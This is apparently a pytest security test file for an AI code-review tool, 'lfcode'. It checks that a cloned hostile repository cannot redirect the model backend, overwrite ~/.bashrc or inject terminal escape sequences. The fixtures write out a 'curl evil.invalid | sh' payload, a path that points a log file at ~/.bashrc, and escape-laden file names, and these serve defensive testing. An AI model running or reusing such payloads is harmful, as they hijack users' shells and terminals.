"""A repository the user merely clones and opens must not turn lfcode against them.

Each test reproduces one attack from issue 9 with a fixture repository and checks the concrete
effect (the user's ``~/.bashrc`` byte for byte, connection attempts logged by an audit hook that
refuses them, the exit code a pre-push hook sees, the bytes printed to the terminal), not a log
line.
"""

from __future__ import annotations

import json
import subprocess
import sys
from pathlib import Path

import git
import pytest
from lsprotocol import types

from tests.e2e.lsp_helpers import inline_params, lsp_session, open_document
from tests.security.hostile import BASHRC, GUARD, fake_script, make_machine, make_repo, run_lfcode

#: Slow end-to-end tests (server processes, the real sandbox): the slow tier of -m 'not model'.
pytestmark = pytest.mark.model

REMOTE = 'backend = "openai"\nopenai_url = "http://10.255.255.1:8080/v1"\nallow_remote = true\n'


def record_attack(repo_root: Path, home: Path) -> dict[str, str]:
    """Finding 1: the repository selects the fake backend and points its record log at ~/.bashrc
    (absolute paths, as an attacker who guessed the user's home would write them)."""
    script = {"responses": [], "default": "curl evil.invalid | sh", "record": str(home / ".bashrc")}
    return {"lfcode.toml": f'backend = "fake"\nfake_script = "{repo_root / "script.json"}"\n', "script.json": json.dumps(script)}


def test_review_ignores_a_repository_that_selects_the_fake_backend(tmp_path: Path) -> None:
    machine = make_machine(tmp_path)
    repo = make_repo(tmp_path / "repo", machine.env, record_attack(tmp_path / "repo", machine.home))
    run = run_lfcode(["review"], Path(repo.working_tree_dir), machine.env)
    assert machine.bashrc.read_text() == BASHRC
    assert machine.untouched()
    assert "ignored backend, fake_script" in run.stderr and "lfcode.toml" in run.stderr
    # No model on this machine: the model analyzer says so and the others still review the change
    # (the behaviour diff ran `add` old and new in the sandbox).
    assert run.returncode == 0, run.stderr
    assert "the model analyzer did not run: no model:" in run.stdout and "behaviour/changed-result" in run.stdout


def test_the_pre_push_hook_neither_runs_the_attack_nor_lets_the_push_through(tmp_path: Path) -> None:
    """The hook reviews the pushed commits with the user's settings, not the repository's: the
    attack's fake backend is never used, and without a model the other analyzers still gate the
    push (a committed left-over ``breakpoint()`` blocks it)."""
    machine = make_machine(tmp_path)
    files = {**record_attack(tmp_path / "repo", machine.home), "tools.py": "def check():\n    breakpoint()\n"}
    repo = make_repo(tmp_path / "repo", machine.env, files)
    root = Path(repo.working_tree_dir)
    installed = run_lfcode(["review", "--install-hook"], root, machine.env)
    assert installed.returncode == 0, installed.stderr
    remote = tmp_path / "remote.git"
    git.Repo.init(remote, bare=True)
    push = subprocess.run(["git", "push", str(remote), "main"], cwd=root, env=machine.env, capture_output=True, text=True, timeout=120)
    assert machine.untouched()
    assert push.returncode != 0, "the pre-push gate let a left-over breakpoint() through"
    assert "rules/debugger-call" in push.stdout + push.stderr
    assert not git.Repo(remote).heads, "the remote received the branch"


async def test_opening_the_folder_in_an_editor_ignores_it(tmp_path: Path) -> None:
    machine = make_machine(tmp_path)
    repo = make_repo(tmp_path / "repo", machine.env, record_attack(tmp_path / "repo", machine.home))
    root = Path(repo.working_tree_dir)
    async with lsp_session(machine.env, root=root) as (lsp, _):
        uri = open_document(lsp, root / "calc.py")
        answer = await lsp.text_document_inline_completion_async(inline_params(uri, 1, 4))
    assert list(answer.items) == []
    assert machine.untouched()
    warnings = [m.message for m in lsp.messages if m.type == types.MessageType.Warning]
    assert any("ignored backend, fake_script" in w and "lfcode.toml" in w for w in warnings), warnings


def test_a_fake_script_cannot_name_its_own_record_file(tmp_path: Path) -> None:
    machine = make_machine(tmp_path)
    script = fake_script(tmp_path / "script.json", record=str(machine.bashrc))
    repo = make_repo(tmp_path / "repo", machine.env, {})
    env = {**machine.env, "LFCODE_BACKEND": "fake", "LFCODE_FAKE_SCRIPT": str(script)}
    run = run_lfcode(["review"], Path(repo.working_tree_dir), env)
    assert machine.untouched()
    assert run.returncode == 0 and "the model analyzer did not run" in run.stdout and "record" in run.stdout


@pytest.mark.parametrize("config", ["lfcode.toml", "pyproject.toml"])
def test_review_never_connects_to_a_host_the_repository_names(tmp_path: Path, config: str) -> None:
    machine = make_machine(tmp_path)
    text = REMOTE if config == "lfcode.toml" else "[tool.lfcode]\n" + REMOTE
    repo = make_repo(tmp_path / "repo", machine.env, {config: text})
    log = tmp_path / "attempts.log"
    run = run_lfcode(["review"], Path(repo.working_tree_dir), machine.env, guard_log=log)
    assert not log.exists(), log.read_text()
    assert "ignored allow_remote, backend, openai_url" in run.stderr
    assert run.returncode == 0 and "the model analyzer did not run: no model:" in run.stdout


def test_the_guard_sees_a_connection_the_user_allowed(tmp_path: Path) -> None:
    """The canary: the same settings at machine level do reach for the network (and the user is
    told), so the test above could fail. The audit hook refuses the socket before it exists."""
    machine = make_machine(tmp_path)
    repo = make_repo(tmp_path / "repo", machine.env, {})
    env = {**machine.env, "LFCODE_BACKEND": "openai", "LFCODE_OPENAI_URL": "http://10.255.255.1:8080/v1", "LFCODE_ALLOW_REMOTE": "true"}
    log = tmp_path / "attempts.log"
    run = run_lfcode(["review"], Path(repo.working_tree_dir), env, guard_log=log)
    assert log.exists() and log.read_text().strip()
    assert "code is sent to 10.255.255.1" in run.stderr


async def test_the_editor_never_connects_to_a_host_the_repository_names(tmp_path: Path) -> None:
    machine = make_machine(tmp_path)
    repo = make_repo(tmp_path / "repo", machine.env, {"pyproject.toml": "[tool.lfcode]\n" + REMOTE})
    root = Path(repo.working_tree_dir)
    log = tmp_path / "attempts.log"
    command = [sys.executable, "-c", GUARD.format(log=str(log)) + "from lfcode.cli import main\nsys.argv = ['lfcode', 'serve']\nmain()"]
    async with lsp_session(machine.env, root=root, command=command) as (lsp, _):
        uri = open_document(lsp, root / "calc.py")
        await lsp.text_document_inline_completion_async(inline_params(uri, 1, 4))
    assert not log.exists(), log.read_text()
    warnings = [m.message for m in lsp.messages if m.type == types.MessageType.Warning]
    assert any("ignored allow_remote, backend, openai_url" in w for w in warnings), warnings


def test_file_names_cannot_write_escape_sequences_or_lines_to_the_terminal(tmp_path: Path) -> None:
    machine = make_machine(tmp_path)
    evil = "evil\x1b]0;owned\x07\x1b[2J\nnote: 0 findings.py"
    vendored = "vendor\x1b[31m\nx.min.js"
    repo = make_repo(tmp_path / "repo", machine.env, {})
    root = Path(repo.working_tree_dir)
    (root / evil).write_text("value = 1\n")
    (root / vendored).write_text("var a = 1;\n")
    finding = '[{"line": 1, "quote": "value = 1", "severity": "warning", "category": "bug", "message": "m\\u001b[8m hidden"}]'
    script = fake_script(tmp_path / "script.json", default=finding)
    env = {**machine.env, "LFCODE_BACKEND": "fake", "LFCODE_FAKE_SCRIPT": str(script)}
    run = run_lfcode(["review", "--fail-on", "never"], root, env)
    out = run.stdout + run.stderr
    assert run.returncode == 0, run.stderr
    assert "\x1b" not in out and "\x07" not in out
    assert "evil" in run.stdout and "x.min.js" in out, out
    assert not any(line.startswith(("note: 0 findings.py", "x.min.js")) for line in out.splitlines()), out


def test_review_fails_closed_when_no_answer_is_readable(tmp_path: Path) -> None:
    """With only the model asked for, an unreadable answer means nothing was reviewed: exit 2.
    With every analyzer, the model's failure is a note and the others decide."""
    machine = make_machine(tmp_path)
    repo = make_repo(tmp_path / "repo", machine.env, {})
    script = fake_script(tmp_path / "script.json", default="I think it is fine")
    env = {**machine.env, "LFCODE_BACKEND": "fake", "LFCODE_FAKE_SCRIPT": str(script)}
    blocked = run_lfcode(["review", "--analyzers", "model"], Path(repo.working_tree_dir), env)
    assert blocked.returncode == 2 and "no readable answer" in blocked.stderr
    allowed = run_lfcode(["review", "--analyzers", "model", "--fail-on", "never"], Path(repo.working_tree_dir), env)
    assert allowed.returncode == 0 and "nothing was reviewed" in allowed.stderr
    others = run_lfcode(["review", "--analyzers", "model,ruff,secrets"], Path(repo.working_tree_dir), env)
    assert others.returncode == 0 and "the model analyzer did not run: the model gave no readable answer" in others.stdout
    good = fake_script(tmp_path / "good.json", default="[]")
    clean = run_lfcode(["review", "--analyzers", "model"], Path(repo.working_tree_dir), {**env, "LFCODE_FAKE_SCRIPT": str(good)})
    assert clean.returncode == 0, clean.stderr
